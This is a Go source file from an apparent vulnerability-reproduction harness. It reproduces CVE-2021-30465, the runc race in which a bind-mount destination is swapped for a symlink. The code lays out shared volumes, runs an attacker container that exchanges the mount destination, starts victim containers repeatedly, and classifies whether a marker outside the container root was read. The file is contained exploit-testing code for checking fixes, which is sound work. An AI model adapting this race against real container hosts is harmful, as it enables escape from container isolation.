package runcbugs

import (
	"context"
	"embed"
	"encoding/json"
	"fmt"
	"path/filepath"
	"slices"
	"strconv"
	"strings"

	specs "github.com/opencontainers/runtime-spec/specs-go"

	"github.com/relapse-dev/relapse/harness/fixture"
	"github.com/relapse-dev/relapse/harness/kit"
	"github.com/relapse-dev/relapse/harness/report"
	"github.com/relapse-dev/relapse/harness/runckit"
	"github.com/relapse-dev/relapse/harness/scenario"
)

// CVE-2021-30465: runc up to rc94 checks a bind mount's destination, then
// mounts onto the path string; a container sharing the volume exchanges
// the destination for a symlink in between (renameat2 RENAME_EXCHANGE),
// the mount lands on the run's volumes directory, and the victim's next
// mount, whose source runs through it, brings in a directory relapse
// planted. Contained on the host: runc mounts in the victim's own mount
// namespace, made rslave first, and both symlinks point into the run's
// directory, so nothing outside it is mounted on, read or written.
func init() { kit.Register(cve202130465) }

//go:embed cve-2021-30465
var cve202130465Fixtures embed.FS

// Inside the containers: the shared volume, the exchanged pair, the view.
const (
	sharedDest = "/shared"
	viewDest   = "/shared/view"
	swapA      = sharedDest + "/mnt"
	swapB      = sharedDest + "/mnt-tmp"
	raced      = "/shared/mnt: invalid argument" // readlink found a directory where lstat saw the symlink: the walk before the check
)

// caughtBy: a fixed runc's re-check failing on the exchanged destination (rc95-1.1.x's WithProcfd, 1.2+'s re-open).
var caughtBy = []string{"possibly malicious path detected", "resolving path inside rootfs failed", "open o_path procfd", "procfd verification failed", "was moved while re-opening"}

var cve202130465 = &kit.Bug{
	ID:       "CVE-2021-30465",
	Fix:      []string{"runc 0ca91f44f166"},
	Advisory: "https://github.com/opencontainers/runc/security/advisories/GHSA-c3xm-pvg7-gh7r",
	Title:    "runc up to v1.0.0-rc94 follows a bind mount destination swapped for a symlink out of the container's root (symlink-exchange race)",
	Summary: "runc up to v1.0.0-rc94 resolves a mount's destination inside the root with securejoin, then calls mount(2) on the path " +
		"string. A container sharing the volume that holds the destination can exchange it for a symlink in between, so the mount " +
		"lands outside the root (in runc's rslave namespace); a later mount whose source runs through that place takes a source of " +
		"the attacker's choosing, up to the host's /. v1.0.0-rc95 (commit 0ca91f44) mounts through an O_PATH fd and refuses one " +
		"whose /proc/self/fd path left the root (\"possibly malicious path detected\").",
	Links: []report.Link{
		{Title: "opencontainers/runc commit 0ca91f44: rootfs: add mount destination validation (the fix, v1.0.0-rc95)", URL: "https://github.com/opencontainers/runc/commit/0ca91f44f1664da834bc61115a849b56d22f595f"},
		{Title: "Etienne Champetier: the reporter's write-up and Kubernetes proof of concept", URL: "http://blog.champtar.fr/runc-symlink-CVE-2021-30465/"},
	},
	Component:    "runc",
	LastAffected: "1.0.0-rc94",
	FirstFixed:   "1.0.0-rc95",
	Revert:       "revert-0ca91f44-v1.0.0-rc95.patch",
	Fixtures:     cve202130465Fixtures,
	Slow:         true, // a race: 100 starts a repetition, several repetitions per fixed release
	Sampling: report.Sampling{RuleOut: 0.7,
		Why:   "a race of 100 starts a repetition; here (2 cores, load 20-33) rc94 escaped in 37 of 800 starts, 8 of 8 repetitions",
		Fresh: "fresh volumes, marker, attacker container and 101 victim starts in a fresh runc state root (~40 s)"},
	Params:   []scenario.Param{scenario.IntParam("attempts", 100, 1, 1000, "victim starts while the attacker exchanges the destination")},
	Control:  func(ctx context.Context, r *kit.Run) (kit.Observation, error) { return victims(ctx, r, false) },
	Trigger:  func(ctx context.Context, r *kit.Run) (kit.Observation, error) { return victims(ctx, r, true) },
	Classify: classifyMountEscape,
	Examples: cve202130465Examples(),
}

// victims lays out the volumes and starts the victim: once without the
// attacker (the control), or attempts times while it exchanges.
func victims(ctx context.Context, r *kit.Run, armed bool) (kit.Observation, error) {
	marker, token, err := r.Plant(ctx, "cve-2021-30465")
	if err != nil {
		return kit.Observation{}, err
	}
	planted := filepath.Dir(marker)
	volumes := filepath.Join(r.Env.Dir, "volumes")
	shared, second := filepath.Join(volumes, "shared"), filepath.Join(volumes, "second")
	// second/second -> planted is followed only once the second volume sits on the volumes' directory: the escape.
	layout := []string{"mkdir -p " + shared + "/mnt " + second, "ln -sfn " + volumes + " " + shared + "/mnt-tmp", "ln -sfn " + planted + " " + second + "/second"}
	for _, l := range layout {
		f := strings.Fields(l)
		if err := r.Env.Node.Command(f[0], f[1:]...).Run(ctx); err != nil {
			return kit.Observation{}, fmt.Errorf("laying out the volumes: %w", err)
		}
	}
	r.Script(layout...)
	view := viewDest + "/" + filepath.Base(marker)
	bind := func(src, dst string) specs.Mount {
		return specs.Mount{Destination: dst, Type: "bind", Source: src, Options: []string{"rbind"}}
	}
	victim := func(s *specs.Spec) {
		s.Mounts = append(s.Mounts, bind(shared, sharedDest), bind(second, swapA), bind(second, viewDest))
	}
	seen := func(c runckit.InitReport) string { return strings.TrimSpace(c.Reads[view]) }
	if !armed {
		c, err := r.Container(ctx, "victim", "control: the victim without the attacker", []string{"read=" + view}, victim)
		c.Facts = map[string]string{"marker": seen(c.Init)}
		if seen(c.Init) == token {
			c.Facts["marker"] = "read"
		}
		return c.Observation, err
	}
	rk := r.Runc
	spec := rk.Config(fixture.ConfigOptions{Args: []string{"/init", "swap=" + swapA + ":" + swapB}})
	spec.Mounts = append(spec.Mounts, bind(shared, sharedDest))
	dir, err := rk.Bundle(ctx, "attacker", spec)
	if err == nil {
		err = rk.SaveBundle(spec, "attacker", "the attacker: the shared volume, exchanging mnt and mnt-tmp in it")
	}
	if err != nil {
		return kit.Observation{}, err
	}
	att, err := rk.RunDetached(ctx, r.Env.Params.Int("attempts")+1, dir, r.Env.Params.Duration("create-timeout")) // numbered after every victim
	if err == nil {
		_, err = att.WaitLine(ctx, `"ok":true`) // its report line comes right before the exchange loop
	}
	if err != nil {
		return kit.Observation{}, err
	}
	r.Script("runc run --detach --bundle attacker relapse-attacker  # exchanges mnt and mnt-tmp until killed",
		"for i in $(seq 100); do runc run --bundle victim relapse-victim-$i | grep -q "+token+" && echo ESCAPED; done",
		"runc kill relapse-attacker TERM; runc delete --force relapse-attacker")
	vdir := filepath.Join(r.Env.Dir, "bundles", "victim") // the control's bundle (Run.Container wrote it), started again and again
	n := map[string]int{}
	for i := 1; i <= r.Env.Params.Int("attempts") && ctx.Err() == nil; i++ {
		o := rk.Try(ctx, runckit.Try{N: i, Bundle: vdir, Timeout: r.Env.Params.Duration("create-timeout"), Label: "victim, the exchange running"})
		out, _ := r.Env.Node.ReadFile(ctx, rk.OutputFile(i))
		n["attempts"]++
		switch {
		case o.Started && seen(o.Init) == token:
			n["escaped"]++
		case o.Started:
			n["started"]++
		case slices.ContainsFunc(caughtBy, func(w string) bool { return strings.Contains(string(out), w) }):
			n["caught"]++
		case strings.Contains(string(out), raced):
			n["raced"]++
		default:
			n["failed"]++
		}
	}
	line, err := att.Stop(ctx, `"swaps"`)
	var swaps struct {
		Swaps int64  `json:"swaps"`
		Error string `json:"error"`
	}
	if err == nil {
		err = json.Unmarshal([]byte(line), &swaps)
	}
	obs := kit.Observation{Ran: n["escaped"]+n["started"] > 0, Said: swaps.Error, Facts: map[string]string{"swaps": strconv.FormatInt(swaps.Swaps, 10)}}
	for _, k := range []string{"attempts", "escaped", "started", "caught", "raced", "failed"} {
		obs.Facts[k] = strconv.Itoa(n[k])
	}
	return obs, err
}

// classifyMountEscape: REPRODUCED when a victim under the exchange read the marker; NOT REPRODUCED when the
// attacker exchanged and half the victims started or were caught (the window that escapes on rc94), none reading it.
func classifyMountEscape(control, trigger kit.Observation) kit.Verdict {
	if control.Fact("marker") == "read" {
		return kit.Verdict{Result: report.Inconclusive, Reason: "the control victim read the marker without any attacker: the layout, not runc, exposes it"}
	}
	count := func(k string) int { v, _ := strconv.Atoi(trigger.Fact(k)); return v }
	rate := report.NewRate(count("escaped"), count("attempts"))
	counts := fmt.Sprintf("of %d starts under %s exchanges %d escaped, %d started without reaching it, runc's re-check caught %d, %d raced in the walk before the check, %d failed otherwise",
		count("attempts"), trigger.Fact("swaps"), count("escaped"), count("started"), count("caught"), count("raced"), count("failed"))
	switch {
	case count("escaped") > 0:
		return kit.Verdict{Result: report.Reproduced, Kind: "mount-destination-swapped-outside-root",
			Reason:  fmt.Sprintf("in %s starts the victim read the marker relapse planted outside its root through %s: a mount destination swapped for a symlink was followed", rate, viewDest),
			Reasons: []string{"the control victim, the same config without the attacker, did not read it: " + control.Fact("marker"), counts}}
	case trigger.Fact("swaps") == "" || trigger.Fact("swaps") == "0":
		return kit.Verdict{Result: report.Inconclusive, Reason: "the attacker made no exchange, so the race was not run: " + counts}
	case 2*(count("started")+count("caught")) < count("attempts"):
		return kit.Verdict{Result: report.Inconclusive, Reason: "fewer than half the victims started or were caught by the fix, so an escape had little chance to show: " + counts}
	}
	return kit.Verdict{Result: report.NotReproduced, Reason: "no victim read the marker: " + counts}
}

// cve202130465Examples is the verdict table Classify must reach (the unit tests run it).
func cve202130465Examples() []kit.Example {
	control := kit.Ran("marker", "error: open /shared/view/m: no such file or directory")
	return []kit.Example{
		kit.Expect("an escape", control, kit.Ran("attempts", "100", "swaps", "250000", "escaped", "4", "started", "90", "failed", "6"), report.Reproduced, "4 of 100"),
		kit.Expect("none, with refusals", control, kit.Ran("attempts", "100", "swaps", "250000", "started", "90", "caught", "3", "raced", "7"), report.NotReproduced, "re-check caught 3, 7 raced"),
		kit.Expect("caught more than started", control, kit.Ran("attempts", "100", "swaps", "700000", "started", "20", "caught", "47", "raced", "33"), report.NotReproduced, "20 started"),
		kit.Expect("the control read it", kit.Ran("marker", "read"), kit.Ran("attempts", "100", "swaps", "250000", "escaped", "4"), report.Inconclusive, "without any attacker"),
		kit.Expect("no exchange", control, kit.Ran("attempts", "100", "started", "100", "swaps", "0"), report.Inconclusive, "no exchange"),
		kit.Expect("few starts", control, kit.Ran("attempts", "100", "swaps", "250000", "started", "30", "caught", "10", "raced", "40", "failed", "20"), report.Inconclusive, "fewer than half"),
	}
}
